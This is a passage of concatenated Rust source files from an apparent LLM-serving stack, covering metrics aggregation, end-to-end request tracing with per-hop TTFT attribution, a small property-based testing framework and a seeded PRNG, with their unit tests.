    fn services_are_independent() {
        let t = DemandTracker::new(10_000);
        t.begin("a", 0);
        assert_eq!(t.in_flight("a"), 1);
        assert_eq!(t.in_flight("b"), 0);
        assert!(t.avg_concurrency("b", 5_000) < 0.01);
    }
}
