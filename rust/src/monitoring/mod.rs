//! Monitoring (§5.9): a Prometheus-style registry aggregating every
//! component's metrics into one text exposition endpoint (the paper wires
//! Kong's Prometheus plugin into an external Grafana; here the registry
//! collects from arbitrary sources and a scrape server exposes them).
//!
//! Per-stream metrics ride the same pipeline: each hop's
//! [`crate::util::streaming::StreamStats`] (streams started / completed /
//! cancelled, TTFT, heartbeats, tokens/sec) renders via
//! `prometheus_text(prefix)` and is registered here by the coordinator —
//! gateway-level stats unlabelled, per-cluster proxy stats through
//! [`labelled`].

use std::sync::{Arc, Mutex};

use crate::util::http::{Handler, Request, Response, Server};

/// A metrics source: renders its current state as Prometheus text.
pub type Source = Box<dyn Fn() -> String + Send + Sync>;

/// Wrap a source so every plain `metric value` line gains a label, e.g.
/// `labelled("cluster", "emmy", src)` turns `scheduler_runs_total 5` into
/// `scheduler_runs_total{cluster="emmy"} 5`. Lines that already carry a
/// label set (or comments) pass through unchanged — federated stacks use
/// this to expose N clusters' components side by side.
pub fn labelled(key: &str, value: &str, source: Source) -> Source {
    let key = key.to_string();
    let value = value.to_string();
    Box::new(move || {
        let mut out = String::new();
        for line in source().lines() {
            let trimmed = line.trim();
            if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.contains('{') {
                out.push_str(line);
            } else if let Some((name, rest)) = trimmed.split_once(' ') {
                out.push_str(&format!("{name}{{{key}=\"{value}\"}} {rest}"));
            } else {
                out.push_str(line);
            }
            out.push('\n');
        }
        out
    })
}

#[derive(Default)]
pub struct Registry {
    sources: Mutex<Vec<(String, Source)>>,
}

impl Registry {
    pub fn new() -> Arc<Registry> {
        Arc::new(Registry::default())
    }

    pub fn register(&self, name: &str, source: Source) {
        self.sources
            .lock()
            .unwrap()
            .push((name.to_string(), source));
    }

    /// Render all sources (scrape).
    pub fn render(&self) -> String {
        let sources = self.sources.lock().unwrap();
        let mut out = String::new();
        for (name, source) in sources.iter() {
            out.push_str(&format!("# component: {name}\n"));
            out.push_str(&source());
            if !out.ends_with('\n') {
                out.push('\n');
            }
        }
        out
    }

    /// Serve `/metrics` for the external Prometheus/Grafana stack.
    pub fn serve(self: &Arc<Registry>, addr: &str) -> std::io::Result<Server> {
        let reg = self.clone();
        let handler: Handler = Arc::new(move |req: &Request| {
            if req.path == "/metrics" {
                Response::text(200, reg.render())
            } else {
                Response::error(404, "not found")
            }
        });
        Server::serve(addr, "monitoring", 2, handler)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::Client;
    use std::sync::atomic::{AtomicU64, Ordering};

    #[test]
    fn aggregates_sources() {
        let reg = Registry::new();
        let counter = Arc::new(AtomicU64::new(0));
        let c = counter.clone();
        reg.register(
            "demo",
            Box::new(move || format!("demo_total {}\n", c.load(Ordering::Relaxed))),
        );
        counter.store(7, Ordering::Relaxed);
        let text = reg.render();
        assert!(text.contains("# component: demo"));
        assert!(text.contains("demo_total 7"));
    }

    #[test]
    fn labelled_sources_gain_label_sets() {
        let src = labelled(
            "cluster",
            "emmy",
            Box::new(|| {
                "# comment\nsched_runs_total 5\nroute_hits{route=\"a\"} 2\n".to_string()
            }),
        );
        let text = src();
        assert!(text.contains("sched_runs_total{cluster=\"emmy\"} 5"), "{text}");
        assert!(text.contains("# comment"), "comments pass through");
        assert!(text.contains("route_hits{route=\"a\"} 2"), "existing labels kept");
    }

    #[test]
    fn scrape_endpoint() {
        let reg = Registry::new();
        reg.register("a", Box::new(|| "a_up 1\n".to_string()));
        let server = reg.serve("127.0.0.1:0").unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.get("/metrics").unwrap();
        assert_eq!(resp.status, 200);
        assert!(resp.body_str().contains("a_up 1"));
        assert_eq!(client.get("/x").unwrap().status, 404);
    }
}
