//! End-to-end request tracing: a trace ID minted at the gateway and
//! carried through every hop (HTTP header `x-chat-ai-trace`, SSH frame
//! envelope header, cloud-interface head line, engine sequence metadata),
//! with per-hop span recording and TTFT attribution.
//!
//! Recording is allocation-free and lock-free: spans land in a fixed ring
//! of atomic slots (one per in-flight trace) plus pre-built aggregate
//! histograms, so the zero-copy relay hot path is untouched — all capture
//! happens at per-request events (first body byte, admission, prefill
//! completion), never per token.
//!
//! TTFT attribution telescopes *inclusive* first-byte times: every hop
//! records the time from its own request receipt to its first response
//! *body* byte (stage `ttfb` — the SSE head travels ahead of the first
//! token, so heads don't count). Bytes flow engine→outward and each hop
//! records before forwarding, so when the outermost hop (the gateway)
//! observes its first byte all inner values are present. The gateway's
//! record finalizes the trace: each hop's *exclusive* contribution is its
//! inclusive TTFB minus the next inner hop's, and the exclusives sum
//! exactly to the end-to-end TTFT. Hops absent from a deployment (e.g. no
//! federation router in a single-cluster stack) are skipped automatically.

use std::cell::Cell;
use std::fmt;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::OnceLock;
use std::time::Duration;

use crate::util::hist::Histogram;

/// Chain position of a recording component, outermost first. The index
/// order is the wire order of the request path.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Hop {
    Gateway = 0,
    Router = 1,
    HpcProxy = 2,
    CloudInterface = 3,
    Engine = 4,
}

pub const N_HOPS: usize = 5;

impl Hop {
    pub const ALL: [Hop; N_HOPS] = [
        Hop::Gateway,
        Hop::Router,
        Hop::HpcProxy,
        Hop::CloudInterface,
        Hop::Engine,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Hop::Gateway => "gateway",
            Hop::Router => "router",
            Hop::HpcProxy => "hpc_proxy",
            Hop::CloudInterface => "cloud_interface",
            Hop::Engine => "engine",
        }
    }

    fn idx(self) -> usize {
        self as usize
    }
}

/// What a span measures within its hop.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Stage {
    /// Request receipt → first response *body* byte (inclusive of all
    /// inner hops; drives TTFT attribution).
    Ttfb = 0,
    /// Engine admission queue wait (fresh sequences only).
    QueueWait = 1,
    /// Engine prefill (admission → prompt processed).
    Prefill = 2,
    /// Engine decode to first emitted token.
    FirstToken = 3,
    /// Upstream connection establishment (SSH dial/reuse at the proxy).
    Connect = 4,
    /// First body byte → stream end (token relay time).
    Relay = 5,
}

pub const N_STAGES: usize = 6;

impl Stage {
    pub const ALL: [Stage; N_STAGES] = [
        Stage::Ttfb,
        Stage::QueueWait,
        Stage::Prefill,
        Stage::FirstToken,
        Stage::Connect,
        Stage::Relay,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Stage::Ttfb => "ttfb",
            Stage::QueueWait => "queue_wait",
            Stage::Prefill => "prefill",
            Stage::FirstToken => "first_token",
            Stage::Connect => "connect",
            Stage::Relay => "relay",
        }
    }

    fn idx(self) -> usize {
        self as usize
    }
}

/// 16 lowercase hex chars. `Copy` and fixed-size: minting, parsing and
/// printing are all allocation-free so trace plumbing never touches the
/// relay hot path's allocation budget.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub struct TraceId([u8; 16]);

fn splitmix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e3779b97f4a7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

impl TraceId {
    /// Mint a fresh id: process-unique counter mixed with a once-seeded
    /// value, hashed so ids don't look sequential on the wire.
    pub fn mint() -> TraceId {
        static SEED: OnceLock<u64> = OnceLock::new();
        static COUNTER: AtomicU64 = AtomicU64::new(0);
        let seed = *SEED.get_or_init(|| {
            let t = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_nanos() as u64)
                .unwrap_or(0x9e3779b97f4a7c15);
            t ^ (&COUNTER as *const _ as u64).rotate_left(32)
        });
        let n = COUNTER.fetch_add(1, Ordering::Relaxed);
        TraceId::from_u64(splitmix64(seed ^ n.wrapping_mul(0x9e3779b97f4a7c15)))
    }

    /// Hex-encode a raw u64 into the 16-char form (deterministic ids for
    /// tests and benches).
    pub fn from_u64(v: u64) -> TraceId {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        let mut b = [0u8; 16];
        for (i, out) in b.iter_mut().enumerate() {
            *out = HEX[((v >> (60 - 4 * i)) & 0xf) as usize];
        }
        TraceId(b)
    }

    /// Parse a wire value: exactly 16 ASCII hex chars, case-insensitive
    /// (normalized to lowercase). Anything else is rejected so a hostile
    /// header can't smuggle bytes into logs or head lines.
    pub fn parse(s: &str) -> Option<TraceId> {
        let bytes = s.as_bytes();
        if bytes.len() != 16 {
            return None;
        }
        let mut b = [0u8; 16];
        for (out, &c) in b.iter_mut().zip(bytes) {
            *out = match c {
                b'0'..=b'9' | b'a'..=b'f' => c,
                b'A'..=b'F' => c + 32,
                _ => return None,
            };
        }
        Some(TraceId(b))
    }

    pub fn as_str(&self) -> &str {
        // Invariant: the bytes are always ASCII hex.
        std::str::from_utf8(&self.0).unwrap_or("0000000000000000")
    }

    fn halves(&self) -> (u64, u64) {
        (
            u64::from_le_bytes(self.0[..8].try_into().unwrap()),
            u64::from_le_bytes(self.0[8..].try_into().unwrap()),
        )
    }
}

impl fmt::Display for TraceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Debug for TraceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "TraceId({})", self.as_str())
    }
}

/// Per-trace value not yet recorded.
const UNSET: u64 = u64::MAX;
/// In-flight trace slots. A power of two well above realistic concurrent
/// *traced-and-unfinalized* requests (a trace occupies its slot only from
/// gateway receipt to first byte); overflow evicts the oldest claim and is
/// counted, never blocks.
const N_SLOTS: usize = 256;

struct Slot {
    // A trace id's hex bytes are never zero, so id_lo == 0 marks a free
    // slot. id_lo is the publication flag: cleared (Release) before the
    // values are reset, stored last (Release) once the slot is ready.
    id_lo: AtomicU64,
    id_hi: AtomicU64,
    vals: [[AtomicU64; N_STAGES]; N_HOPS],
}

impl Slot {
    fn new() -> Slot {
        Slot {
            id_lo: AtomicU64::new(0),
            id_hi: AtomicU64::new(0),
            vals: std::array::from_fn(|_| std::array::from_fn(|_| AtomicU64::new(UNSET))),
        }
    }
}

/// Process-wide span sink: a fixed slot ring for per-trace correlation
/// plus aggregate per-(hop, stage) histograms and per-hop TTFT
/// attribution accumulators. All recording paths are atomics-only.
pub struct Tracer {
    enabled: AtomicBool,
    slots: Vec<Slot>,
    next: AtomicUsize,
    /// Aggregate span histograms in µs, indexed `[hop][stage]`.
    span_us: Vec<Vec<Histogram>>,
    /// Exact exclusive-TTFT sums/counts per hop (µs) — exported so a
    /// single traced request can be checked against its measured TTFT.
    attr_sum_us: Vec<AtomicU64>,
    attr_count: Vec<AtomicU64>,
    attr_us: Vec<Histogram>,
    finalized: AtomicU64,
    evicted: AtomicU64,
}

impl Tracer {
    fn new() -> Tracer {
        Tracer {
            enabled: AtomicBool::new(true),
            slots: (0..N_SLOTS).map(|_| Slot::new()).collect(),
            next: AtomicUsize::new(0),
            span_us: (0..N_HOPS)
                .map(|_| (0..N_STAGES).map(|_| Histogram::new()).collect())
                .collect(),
            attr_sum_us: (0..N_HOPS).map(|_| AtomicU64::new(0)).collect(),
            attr_count: (0..N_HOPS).map(|_| AtomicU64::new(0)).collect(),
            attr_us: (0..N_HOPS).map(|_| Histogram::new()).collect(),
            finalized: AtomicU64::new(0),
            evicted: AtomicU64::new(0),
        }
    }

    pub fn enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    pub fn set_enabled(&self, on: bool) {
        self.enabled.store(on, Ordering::Relaxed);
    }

    /// Claim a ring slot for a freshly minted/received trace. On overflow
    /// the oldest claim is evicted (counted); its late records then only
    /// reach the aggregate histograms, never a wrong slot.
    pub fn begin(&self, id: TraceId) {
        if !self.enabled() {
            return;
        }
        let slot = &self.slots[self.next.fetch_add(1, Ordering::Relaxed) % N_SLOTS];
        if slot.id_lo.load(Ordering::Relaxed) != 0 {
            self.evicted.fetch_add(1, Ordering::Relaxed);
        }
        slot.id_lo.store(0, Ordering::Release);
        for hop in &slot.vals {
            for v in hop {
                v.store(UNSET, Ordering::Relaxed);
            }
        }
        let (lo, hi) = id.halves();
        slot.id_hi.store(hi, Ordering::Relaxed);
        slot.id_lo.store(lo, Ordering::Release);
    }

    fn find(&self, id: TraceId) -> Option<&Slot> {
        let (lo, hi) = id.halves();
        self.slots.iter().find(|s| {
            s.id_lo.load(Ordering::Acquire) == lo && s.id_hi.load(Ordering::Relaxed) == hi
        })
    }

    /// Record one span. Always feeds the aggregate histogram; also lands
    /// in the trace's slot when it is still resident (evicted or
    /// already-finalized traces degrade to aggregate-only).
    pub fn record(&self, id: TraceId, hop: Hop, stage: Stage, elapsed: Duration) {
        if !self.enabled() {
            return;
        }
        let us = elapsed.as_micros() as u64;
        self.span_us[hop.idx()][stage.idx()].record(us);
        if let Some(slot) = self.find(id) {
            slot.vals[hop.idx()][stage.idx()].store(us, Ordering::Relaxed);
        }
    }

    /// Finalize a trace at the outermost hop's first body byte: telescope
    /// the inclusive per-hop TTFBs into exclusive contributions (which sum
    /// exactly to `e2e`), fold them into the attribution accumulators and
    /// free the slot.
    pub fn finalize(&self, id: TraceId, e2e: Duration) {
        if !self.enabled() {
            return;
        }
        let e2e_us = e2e.as_micros() as u64;
        let Some(slot) = self.find(id) else { return };
        let mut inner: Option<u64> = None;
        for hop in Hop::ALL.iter().rev() {
            let mut v = slot.vals[hop.idx()][Stage::Ttfb.idx()].load(Ordering::Relaxed);
            if *hop == Hop::Gateway && v == UNSET {
                v = e2e_us;
            }
            if v == UNSET {
                continue;
            }
            // Clock skew between threads can make an outer hop read
            // smaller than an inner one; clamp so exclusives stay >= 0 and
            // the telescoped sum equals the largest inclusive value.
            let base = inner.unwrap_or(0);
            let exclusive = v.saturating_sub(base);
            self.attr_sum_us[hop.idx()].fetch_add(exclusive, Ordering::Relaxed);
            self.attr_count[hop.idx()].fetch_add(1, Ordering::Relaxed);
            self.attr_us[hop.idx()].record(exclusive);
            inner = Some(v.max(base));
        }
        self.finalized.fetch_add(1, Ordering::Relaxed);
        slot.id_lo.store(0, Ordering::Release);
        slot.id_hi.store(0, Ordering::Relaxed);
    }

    pub fn finalized_total(&self) -> u64 {
        self.finalized.load(Ordering::Relaxed)
    }

    /// Per-hop exclusive-TTFT accumulators: `(hop, sum_us, count)`.
    pub fn attribution(&self) -> [(Hop, u64, u64); N_HOPS] {
        Hop::ALL.map(|hop| {
            (
                hop,
                self.attr_sum_us[hop.idx()].load(Ordering::Relaxed),
                self.attr_count[hop.idx()].load(Ordering::Relaxed),
            )
        })
    }

    pub fn span_count(&self, hop: Hop, stage: Stage) -> u64 {
        self.span_us[hop.idx()][stage.idx()].count()
    }

    pub fn span_mean_us(&self, hop: Hop, stage: Stage) -> f64 {
        self.span_us[hop.idx()][stage.idx()].mean()
    }

    /// Prometheus exposition: per-(hop, stage) span summaries in ms plus
    /// the TTFT-attribution breakdown (exact µs totals + quantiles).
    pub fn prometheus_text(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "# TYPE trace_span_ms summary");
        for hop in Hop::ALL {
            for stage in Stage::ALL {
                let h = &self.span_us[hop.idx()][stage.idx()];
                let n = h.count();
                if n == 0 {
                    continue;
                }
                let labels = format!("hop=\"{}\",stage=\"{}\"", hop.as_str(), stage.as_str());
                for (q, tag) in [(0.5, "0.5"), (0.99, "0.99")] {
                    let _ = writeln!(
                        out,
                        "trace_span_ms{{{labels},quantile=\"{tag}\"}} {:.3}",
                        h.quantile(q) as f64 / 1e3
                    );
                }
                let _ = writeln!(
                    out,
                    "trace_span_ms_sum{{{labels}}} {:.3}",
                    h.mean() * n as f64 / 1e3
                );
                let _ = writeln!(out, "trace_span_ms_count{{{labels}}} {n}");
            }
        }
        for hop in Hop::ALL {
            let c = self.attr_count[hop.idx()].load(Ordering::Relaxed);
            if c == 0 {
                continue;
            }
            let _ = writeln!(
                out,
                "trace_ttft_attribution_us_total{{hop=\"{}\"}} {}",
                hop.as_str(),
                self.attr_sum_us[hop.idx()].load(Ordering::Relaxed)
            );
            let _ = writeln!(
                out,
                "trace_ttft_attribution_count{{hop=\"{}\"}} {c}",
                hop.as_str()
            );
            let _ = writeln!(
                out,
                "trace_ttft_attribution_ms_p50{{hop=\"{}\"}} {:.3}",
                hop.as_str(),
                self.attr_us[hop.idx()].p50() as f64 / 1e3
            );
        }
        let _ = writeln!(out, "trace_finalized_total {}", self.finalized_total());
        let _ = writeln!(
            out,
            "trace_slots_evicted_total {}",
            self.evicted.load(Ordering::Relaxed)
        );
        out
    }
}

/// The process-wide tracer (built on first use; enabled by default, the
/// `[tracing]` stack config section can switch it off).
pub fn tracer() -> &'static Tracer {
    static TRACER: OnceLock<Tracer> = OnceLock::new();
    TRACER.get_or_init(Tracer::new)
}

pub fn enabled() -> bool {
    tracer().enabled()
}

pub fn set_enabled(on: bool) {
    tracer().set_enabled(on);
}

pub fn begin(id: TraceId) {
    tracer().begin(id);
}

pub fn record(id: TraceId, hop: Hop, stage: Stage, elapsed: Duration) {
    tracer().record(id, hop, stage, elapsed);
}

pub fn finalize(id: TraceId, e2e: Duration) {
    tracer().finalize(id, e2e);
}

thread_local! {
    static CURRENT: Cell<Option<TraceId>> = const { Cell::new(None) };
}

/// The thread's active trace (stamped onto JSON log lines).
pub fn current() -> Option<TraceId> {
    CURRENT.with(|c| c.get())
}

/// RAII guard restoring the previous thread-active trace on drop.
pub struct Scope(Option<TraceId>);

/// Set the thread's active trace for the lifetime of the returned guard.
pub fn scoped(id: TraceId) -> Scope {
    Scope(CURRENT.with(|c| c.replace(Some(id))))
}

impl Drop for Scope {
    fn drop(&mut self) {
        let prev = self.0;
        CURRENT.with(|c| c.set(prev));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mint_is_unique_and_well_formed() {
        let a = TraceId::mint();
        let b = TraceId::mint();
        assert_ne!(a, b);
        for id in [a, b] {
            assert_eq!(id.as_str().len(), 16);
            assert!(id.as_str().bytes().all(|c| c.is_ascii_hexdigit()));
        }
    }

    #[test]
    fn parse_roundtrip_and_rejection() {
        let id = TraceId::from_u64(0x0123_4567_89ab_cdef);
        assert_eq!(id.as_str(), "0123456789abcdef");
        assert_eq!(TraceId::parse(id.as_str()), Some(id));
        assert_eq!(TraceId::parse("0123456789ABCDEF"), Some(id));
        assert!(TraceId::parse("").is_none());
        assert!(TraceId::parse("0123456789abcde").is_none());
        assert!(TraceId::parse("0123456789abcdef0").is_none());
        assert!(TraceId::parse("0123456789abcdeg").is_none());
        assert!(TraceId::parse("0123456789abcde\n").is_none());
    }

    #[test]
    fn attribution_telescopes_exactly() {
        // A private Tracer instance: the global one is shared with every
        // other test in the binary (the gateway mints traces).
        let t = Tracer::new();
        let id = TraceId::mint();
        t.begin(id);
        // Inclusive TTFBs, innermost smallest (engine 10ms … gateway 40ms);
        // the router hop is absent and must be skipped.
        t.record(id, Hop::Engine, Stage::Ttfb, Duration::from_micros(10_000));
        t.record(
            id,
            Hop::CloudInterface,
            Stage::Ttfb,
            Duration::from_micros(14_000),
        );
        t.record(id, Hop::HpcProxy, Stage::Ttfb, Duration::from_micros(25_000));
        t.record(id, Hop::Gateway, Stage::Ttfb, Duration::from_micros(40_000));
        t.finalize(id, Duration::from_micros(40_000));
        let attr = t.attribution();
        let got = |hop: Hop| (attr[hop as usize].1, attr[hop as usize].2);
        assert_eq!(got(Hop::Engine), (10_000, 1));
        assert_eq!(got(Hop::CloudInterface), (4_000, 1));
        assert_eq!(got(Hop::HpcProxy), (11_000, 1));
        assert_eq!(got(Hop::Gateway), (15_000, 1));
        assert_eq!(got(Hop::Router), (0, 0), "absent hop must be skipped");
        let total: u64 = attr.iter().map(|(_, sum, _)| sum).sum();
        assert_eq!(total, 40_000, "exclusives must sum to end-to-end TTFT");
        // The slot is freed by finalize.
        assert!(t.find(id).is_none());
    }

    #[test]
    fn disabled_tracer_records_nothing() {
        let t = Tracer::new();
        t.set_enabled(false);
        let id = TraceId::mint();
        t.begin(id);
        t.record(id, Hop::Gateway, Stage::Relay, Duration::from_micros(5));
        assert_eq!(t.span_count(Hop::Gateway, Stage::Relay), 0);
        assert!(t.find(id).is_none());
        t.finalize(id, Duration::from_micros(5));
        assert_eq!(t.finalized_total(), 0);
    }

    #[test]
    fn prometheus_text_exports_span_and_attribution_series() {
        let t = Tracer::new();
        let id = TraceId::mint();
        t.begin(id);
        t.record(id, Hop::Engine, Stage::Ttfb, Duration::from_micros(2_000));
        t.record(id, Hop::Gateway, Stage::Ttfb, Duration::from_micros(3_000));
        t.finalize(id, Duration::from_micros(3_000));
        let text = t.prometheus_text();
        assert!(
            text.contains("trace_span_ms{hop=\"gateway\",stage=\"ttfb\",quantile=\"0.5\"}"),
            "{text}"
        );
        assert!(text.contains("trace_ttft_attribution_us_total{hop=\"engine\"}"), "{text}");
        assert!(text.contains("trace_finalized_total"), "{text}");
    }

    #[test]
    fn scoped_current_nests_and_restores() {
        assert_eq!(current(), None);
        let a = TraceId::from_u64(1);
        let b = TraceId::from_u64(2);
        {
            let _ga = scoped(a);
            assert_eq!(current(), Some(a));
            {
                let _gb = scoped(b);
                assert_eq!(current(), Some(b));
            }
            assert_eq!(current(), Some(a));
        }
        assert_eq!(current(), None);
    }

    #[test]
    fn slot_ring_overflow_degrades_to_aggregates() {
        let t = Tracer::new();
        let first = TraceId::mint();
        t.begin(first);
        // Overrun the ring so `first` is evicted.
        for _ in 0..N_SLOTS {
            t.begin(TraceId::mint());
        }
        assert!(t.find(first).is_none());
        t.record(first, Hop::Engine, Stage::QueueWait, Duration::from_micros(7));
        assert_eq!(t.span_count(Hop::Engine, Stage::QueueWait), 1);
    }
}
