//! Mini property-based testing framework (proptest is not in the offline
//! registry). Seeded generators + a runner that reports the failing seed so
//! any counterexample is reproducible: rerun with `PROPCHECK_SEED=<seed>`.
//!
//! Used by the invariant suites: Slurm never oversubscribes nodes, the
//! scheduler's routing table never routes to a dead instance, the KV block
//! manager never double-allocates, the rate limiter never exceeds its
//! budget, etc.

use crate::util::rng::Rng;

/// Configuration for a property run.
pub struct Config {
    pub cases: usize,
    pub seed: u64,
}

impl Default for Config {
    fn default() -> Config {
        let seed = std::env::var("PROPCHECK_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(0xC0FFEE);
        Config { cases: 64, seed }
    }
}

/// Run `prop` for `config.cases` seeded cases. Each case gets an independent
/// rng; a failure panics with the case seed for reproduction.
pub fn check<F: FnMut(&mut Rng)>(name: &str, config: Config, mut prop: F) {
    let mut master = Rng::new(config.seed);
    for case in 0..config.cases {
        let case_seed = master.next_u64();
        let mut rng = Rng::new(case_seed);
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| prop(&mut rng)));
        if let Err(payload) = result {
            let msg = payload
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| payload.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_else(|| "<non-string panic>".into());
            panic!(
                "property '{name}' failed on case {case}/{} (case_seed={case_seed:#x}, \
                 master_seed={:#x}): {msg}\n\
                 reproduce with PROPCHECK_SEED={} and a single case",
                config.cases, config.seed, config.seed
            );
        }
    }
}

/// Shorthand with the default config.
pub fn quick<F: FnMut(&mut Rng)>(name: &str, prop: F) {
    check(name, Config::default(), prop);
}

/// Generate a vector of length in `[min_len, max_len]` with `gen`.
pub fn vec_of<T>(
    rng: &mut Rng,
    min_len: usize,
    max_len: usize,
    mut gen: impl FnMut(&mut Rng) -> T,
) -> Vec<T> {
    let len = rng.range(min_len as u64, max_len as u64) as usize;
    (0..len).map(|_| gen(rng)).collect()
}

/// ASCII identifier-ish string (for names, paths).
pub fn ident(rng: &mut Rng, max_len: usize) -> String {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-_";
    let len = rng.range(1, max_len as u64) as usize;
    (0..len)
        .map(|_| ALPHABET[rng.below(ALPHABET.len() as u64) as usize] as char)
        .collect()
}

/// Arbitrary printable string including tricky characters (for fuzzing
/// parsers / injection surfaces).
pub fn nasty_string(rng: &mut Rng, max_len: usize) -> String {
    const TRICKY: &[&str] = &[
        "'", "\"", ";", "|", "&", "$", "`", "\\", "\n", "\r", "\t", "$(", ")", "{", "}", "<",
        ">", "*", "?", "~", "#", "%", " ", "../", "\0", "a", "b", "1", "=", "/",
    ];
    let len = rng.range(0, max_len as u64) as usize;
    let mut out = String::new();
    for _ in 0..len {
        out.push_str(TRICKY[rng.below(TRICKY.len() as u64) as usize]);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passing_property_passes() {
        quick("addition commutes", |rng| {
            let a = rng.below(1000);
            let b = rng.below(1000);
            assert_eq!(a + b, b + a);
        });
    }

    #[test]
    fn failing_property_reports_seed() {
        let result = std::panic::catch_unwind(|| {
            check(
                "always fails",
                Config {
                    cases: 3,
                    seed: 1234,
                },
                |_rng| panic!("boom"),
            );
        });
        let err = result.unwrap_err();
        let msg = err.downcast_ref::<String>().unwrap();
        assert!(msg.contains("case_seed="), "msg={msg}");
        assert!(msg.contains("always fails"));
    }

    #[test]
    fn generators_respect_bounds() {
        let mut rng = Rng::new(5);
        for _ in 0..100 {
            let v = vec_of(&mut rng, 2, 7, |r| r.below(10));
            assert!((2..=7).contains(&v.len()));
            let s = ident(&mut rng, 12);
            assert!(!s.is_empty() && s.len() <= 12);
        }
    }

    #[test]
    fn nasty_strings_include_shell_metachars() {
        let mut rng = Rng::new(6);
        let mut any_meta = false;
        for _ in 0..50 {
            let s = nasty_string(&mut rng, 20);
            if s.contains(['$', ';', '|', '`']) {
                any_meta = true;
            }
        }
        assert!(any_meta);
    }
}
