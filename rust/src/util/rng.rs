//! Deterministic PRNG (splitmix64 seeding + xoshiro256**) used by every
//! stochastic component: load generators, the adoption simulator, port
//! allocation, random load balancing, and the property-testing framework.
//!
//! Determinism matters here: the paper's figures are regenerated from seeded
//! runs, and the property tests must be reproducible from a printed seed.

/// xoshiro256** with splitmix64 seeding.
#[derive(Debug, Clone)]
pub struct Rng {
    s: [u64; 4],
}

fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E3779B97F4A7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58476D1CE4E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D049BB133111EB);
    z ^ (z >> 31)
}

impl Rng {
    pub fn new(seed: u64) -> Rng {
        let mut sm = seed;
        Rng {
            s: [
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
            ],
        }
    }

    /// Derive an independent stream (for per-thread / per-component rngs).
    pub fn fork(&mut self) -> Rng {
        Rng::new(self.next_u64())
    }

    pub fn next_u64(&mut self) -> u64 {
        let result = self.s[1]
            .wrapping_mul(5)
            .rotate_left(7)
            .wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }

    /// Uniform in `[0, n)`. Uses Lemire's multiply-shift with rejection.
    pub fn below(&mut self, n: u64) -> u64 {
        assert!(n > 0, "below(0)");
        let mut x = self.next_u64();
        let mut m = (x as u128).wrapping_mul(n as u128);
        let mut lo = m as u64;
        if lo < n {
            let threshold = n.wrapping_neg() % n;
            while lo < threshold {
                x = self.next_u64();
                m = (x as u128).wrapping_mul(n as u128);
                lo = m as u64;
            }
        }
        (m >> 64) as u64
    }

    /// Uniform in `[lo, hi]` (inclusive).
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        assert!(lo <= hi);
        lo + self.below(hi - lo + 1)
    }

    /// Uniform f64 in `[0, 1)`.
    pub fn f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Bernoulli trial.
    pub fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }

    /// Standard normal via Box–Muller.
    pub fn normal(&mut self) -> f64 {
        let u1 = loop {
            let u = self.f64();
            if u > 0.0 {
                break u;
            }
        };
        let u2 = self.f64();
        (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos()
    }

    /// Exponential with mean `mean` (inter-arrival times of Poisson processes).
    pub fn exp(&mut self, mean: f64) -> f64 {
        let u = loop {
            let u = self.f64();
            if u > 0.0 {
                break u;
            }
        };
        -mean * u.ln()
    }

    /// Poisson-distributed count with the given mean (Knuth for small means,
    /// normal approximation above 64 — adequate for workload synthesis).
    pub fn poisson(&mut self, mean: f64) -> u64 {
        if mean <= 0.0 {
            return 0;
        }
        if mean > 64.0 {
            let v = mean + mean.sqrt() * self.normal();
            return v.max(0.0).round() as u64;
        }
        let l = (-mean).exp();
        let mut k = 0u64;
        let mut p = 1.0;
        loop {
            p *= self.f64();
            if p <= l {
                return k;
            }
            k += 1;
        }
    }

    /// Pick a random element.
    pub fn choose<'a, T>(&mut self, items: &'a [T]) -> Option<&'a T> {
        if items.is_empty() {
            None
        } else {
            Some(&items[self.below(items.len() as u64) as usize])
        }
    }

    /// Fisher–Yates shuffle.
    pub fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
